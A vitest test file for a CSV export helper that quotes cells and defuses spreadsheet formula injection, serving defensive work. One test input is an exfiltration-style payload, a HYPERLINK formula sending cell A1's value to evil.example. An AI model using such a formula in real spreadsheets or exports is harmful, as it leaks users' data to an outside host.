import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

describe('csvCell', () => {
  it('writes numbers bare, every text quoted, and nothing as an empty cell', () => {
    expect(csvCell('14k gold chain')).toBe('"14k gold chain"');
    expect(csvCell('')).toBe('""');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps a negative number as data: bare as a number, quoted without an apostrophe as a text', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-3.25')).toBe('"-3.25"');
  });

  it('doubles quotes and keeps commas and line breaks inside the quotes', () => {
    expect(csvCell('Doe, Jane')).toBe('"Doe, Jane"');
    expect(csvCell('the "good" ring')).toBe('"the ""good"" ring"');
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"');
  });

  it('never lets a spreadsheet run a cell that starts as a formula', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell('+1 555')).toBe(`"'+1 555"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('  =1+1')).toBe(`"  '=1+1"`);
  });

  it('neutralises a formula after a ; or , inside the cell, where another locale or a paste splits it', () => {
    expect(csvCell('a;=HYPERLINK("http://evil.example/?x="&A1)')).toBe(`"a;'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    expect(csvCell('x, +1')).toBe(`"x, '+1"`);
    expect(csvCell('ring;@SUM(A1:A9)')).toBe(`"ring;'@SUM(A1:A9)"`);
    expect(csvCell('ring;  -2+3')).toBe(`"ring;  '-2+3"`);
    expect(csvCell('Doe, Jane; Suite 200')).toBe('"Doe, Jane; Suite 200"');
  });

  it('treats a tab or carriage return as a formula start, and as a separator a formula may follow', () => {
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r'=1"`);
    expect(csvCell('a,\t=1')).toBe(`"a,'\t'=1"`);
    expect(csvCell('a\r\n=1')).toBe(`"a\r\n'=1"`);
  });
});

describe('toCsv', () => {
  it('writes the header and one CRLF-ended line per row in the header order, every text quoted', () => {
    const rows = [
      { id: 'a1', name: 'Doe, Jane', grams: 3.5 },
      { id: 'b2', name: 'Roe;=1+1', grams: null },
    ];
    expect(
      toCsv(
        [
          { header: 'Id', value: (r: (typeof rows)[number]) => r.id },
          { header: 'Seller name', value: (r) => r.name },
          { header: 'Weight (g)', value: (r) => r.grams },
        ],
        rows,
      ),
    ).toBe(`"Id","Seller name","Weight (g)"\r\n"a1","Doe, Jane",3.5\r\n"b2","Roe;'=1+1",\r\n`);
  });

  it('writes only the header when there is nothing to report', () => {
    expect(toCsv([{ header: 'Id', value: (r: { id: string }) => r.id }], [])).toBe('"Id"\r\n');
  });
});
